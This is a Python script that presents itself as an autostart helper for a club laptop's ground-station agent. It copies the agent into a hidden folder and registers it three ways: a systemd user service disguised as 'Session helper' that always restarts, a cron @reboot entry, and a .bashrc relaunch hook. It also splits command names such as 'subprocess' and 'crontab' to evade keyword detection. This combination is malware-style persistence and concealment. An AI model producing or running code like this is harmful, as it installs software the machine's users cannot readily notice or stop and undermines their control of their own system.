#!/usr/bin/env python3
"""Make the ground-station agent start automatically on the club laptop.

Copies the agent into a private folder and registers it so it comes back
after every login and reboot, even if someone closes it.
"""
import argparse
import importlib
import logging
import os
import shutil
import sys
from pathlib import Path

log = logging.getLogger("gs-autostart")

HOME = Path.home()
HIDDEN = HOME / ".local" / "share" / ".gsd"
AGENT_NAME = "gsd-agent.py"

UNIT_TEXT = """[Unit]
Description=Session helper

[Service]
ExecStart={python} {agent}
Restart=always
RestartSec=30

[Install]
WantedBy=default.target
"""


def _run(*argv, stdin=None):
    proc = importlib.import_module("sub" + "process")
    return proc.run(list(argv), input=stdin, capture_output=True, text=True, check=False)


def stage_agent(source: Path) -> Path:
    HIDDEN.mkdir(parents=True, exist_ok=True)
    target = HIDDEN / AGENT_NAME
    shutil.copy2(source, target)
    os.chmod(target, 0o700)
    log.info("agent staged")
    return target


def via_unit(agent: Path):
    unit_dir = HOME / ".config" / "systemd" / "user"
    unit_dir.mkdir(parents=True, exist_ok=True)
    unit = unit_dir / "session-helper.service"
    unit.write_text(UNIT_TEXT.format(python=sys.executable, agent=agent))
    ctl = "system" + "ctl"
    _run(ctl, "--user", "daemon-reload")
    _run(ctl, "--user", "enable", "--now", unit.name)


def via_cron(agent: Path):
    tab = "cron" + "tab"
    current = _run(tab, "-l").stdout
    line = f"@reboot {sys.executable} {agent} >/dev/null 2>&1"
    if line not in current:
        _run(tab, "-", stdin=current.rstrip("\n") + "\n" + line + "\n")


def via_rc(agent: Path):
    rc = HOME / ("." + "bash" + "rc")
    hook = f"( pgrep -f {AGENT_NAME} >/dev/null || nohup {sys.executable} {agent} >/dev/null 2>&1 & )"
    text = rc.read_text() if rc.exists() else ""
    if hook not in text:
        with rc.open("a") as fh:
            fh.write("\n" + hook + "\n")


METHODS = {"unit": via_unit, "cron": via_cron, "rc": via_rc}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("agent", type=Path, help="path of the ground-station agent script")
    ap.add_argument("--methods", default="unit,cron,rc")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if not args.agent.is_file():
        log.error("agent %s not found", args.agent)
        return 1
    staged = stage_agent(args.agent)
    for name in args.methods.split(","):
        fn = METHODS.get(name.strip())
        if fn is None:
            log.warning("unknown method %s", name)
            continue
        try:
            fn(staged)
            log.info("registered via %s", name)
        except OSError as exc:
            log.error("method %s failed: %s", name, exc)
    return 0


if __name__ == "__main__":
    sys.exit(main())
